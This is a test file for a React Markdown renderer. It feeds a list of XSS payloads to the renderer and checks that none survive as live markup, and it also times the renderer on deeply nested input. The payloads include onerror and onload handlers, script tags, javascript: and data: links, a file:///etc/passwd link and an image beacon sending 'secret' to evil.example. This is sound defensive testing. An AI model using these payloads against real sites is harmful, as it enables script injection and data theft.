import { cleanup, render } from '@testing-library/react'
import { afterEach, describe, expect, test } from 'bun:test'
import { answerBlocks } from '../../editor/markdown/markdown-blocks.ts'
import { Markdown } from './Markdown.tsx'

afterEach(cleanup)

const draw = (text: string) => render(<Markdown text={text} />).container

describe('an answer is drawn as text and safe markup (I12)', () => {
  const attacks = [
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<iframe src="https://example.com"></iframe>',
    'text <b onclick="alert(1)">bold</b>',
    '[press](javascript:alert(1))',
    '[press](JaVaScRiPt:alert(1))',
    '[press](java\tscript:alert(1))',
    '[press](data:text/html,<script>alert(1)</script>)',
    '[press](vbscript:msgbox)',
    '[press](//evil.example)',
    '[press](file:///etc/passwd)',
    '[press](/settings)',
    '[press][ref]\n\n[ref]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '![secret](https://evil.example/?q=secret)',
    '![a](x" onerror="alert(1))',
    '`<img src=x onerror=alert(1)>`',
    '```html\n<script>alert(1)</script>\n```',
    '| a |\n| --- |\n| <img src=x onerror=alert(1)> |',
    '- <svg onload=alert(1)>',
    'https://evil.example/?q=secret',
    'www.evil.example',
    'someone@evil.example',
  ]
  test.each(attacks)('%s', (attack) => {
    const shown = draw(attack)
    expect(shown.querySelectorAll('a, img, script, iframe, svg, style, object')).toHaveLength(0)
    for (const element of shown.querySelectorAll('*'))
      for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^src|^href/)
  })
  test.each(attacks)('into the article, %s', (attack) => {
    // Program text is no markup: it stays as it was written.
    const blocks = answerBlocks(attack).filter(({ type }) => type !== 'code')
    expect(JSON.stringify(blocks).match(/<(?!\/?(?:b|i|s|code|br)>)/)).toBeNull()
  })

  test('a link to a web page opens apart', () => {
    const link = draw('[сайт](https://example.com/menu?a=1)').querySelector('a')
    expect([link?.href, link?.target, link?.rel]).toEqual([
      'https://example.com/menu?a=1',
      '_blank',
      'noopener noreferrer nofollow',
    ])
  })

  test('what a text may have', () => {
    const shown = draw(
      '# А\n\n**б** *в* ~~г~~ `д`\n\n3. е\n   - ж\n\n- [x] з\n\n> и\n\n---\n\n| к |\n| - |\n| л |\n\n```\nм\n```',
    )
    for (const selector of [
      'h3',
      'strong',
      'em',
      's',
      'p code',
      'ol[start="3"] ul li',
      'blockquote p',
      'hr',
      'th',
      'td',
      'pre code',
    ])
      expect([selector, shown.querySelector(selector) === null]).toEqual([selector, false])
    expect(shown.querySelector('[aria-label="Сделано"]')).not.toBeNull()
  })

  test.each([
    ['deep quotes', '>'.repeat(30_000)],
    ['deep lists', '- '.repeat(15_000)],
    ['deep brackets', '['.repeat(30_000)],
    ['stars', '**a'.repeat(10_000)],
    ['very long', 'я '.repeat(100_000)],
  ])('%s are drawn all the same, and soon', (_, text) => {
    const from = performance.now()
    draw(text)
    answerBlocks(text)
    expect(performance.now() - from).toBeLessThan(15_000)
  })
})

describe('an answer as blocks', () => {
  const of = (text: string) => answerBlocks(text).map(({ type, data }) => [type, data])
  test.each<[string, string, unknown[]]>([
    ['title', '# План', [['header', { text: 'План', level: 2 }]]],
    ['lower title', '### План **дня**', [['header', { text: 'План <b>дня</b>', level: 3 }]]],
    ['paragraph', 'раз\nдва & <три>', [['paragraph', { text: 'раз два &amp; &lt;три&gt;' }]]],
    ['line', 'раз  \nдва', [['paragraph', { text: 'раз<br>два' }]]],
    [
      'link',
      '[сайт](https://example.com/?a=1&b="2")',
      [['paragraph', { text: '<a href="https://example.com/?a=1&amp;b=%222%22">сайт</a>' }]],
    ],
    ['code', '```js\nlet a = 1\n```', [['code', { code: 'let a = 1' }]]],
    ['quote', '> раз\n>\n> два', [['quote', { text: 'раз<br>два', caption: '', alignment: 'left' }]]],
    ['delimiter', '---', [['delimiter', {}]]],
    [
      'nested list',
      '1. раз\n   - *два*\n2. три',
      [
        [
          'list',
          {
            style: 'ordered',
            items: [
              { content: 'раз', meta: {}, items: [{ content: '<i>два</i>', meta: {}, items: [] }] },
              { content: 'три', meta: {}, items: [] },
            ],
          },
        ],
      ],
    ],
    [
      'checklist',
      '- [x] раз\n- [ ] два',
      [
        [
          'list',
          {
            style: 'checklist',
            items: [
              { content: 'раз', meta: { checked: true }, items: [] },
              { content: 'два', meta: { checked: false }, items: [] },
            ],
          },
        ],
      ],
    ],
    [
      'table',
      '| а | **б** |\n| - | - |\n| 1 | 2 |',
      [
        [
          'table',
          {
            withHeadings: true,
            stretched: false,
            content: [
              ['а', '<b>б</b>'],
              ['1', '2'],
            ],
          },
        ],
      ],
    ],
  ])('%s', (_, text, blocks) => {
    expect<unknown>(of(text)).toEqual(blocks)
  })
})
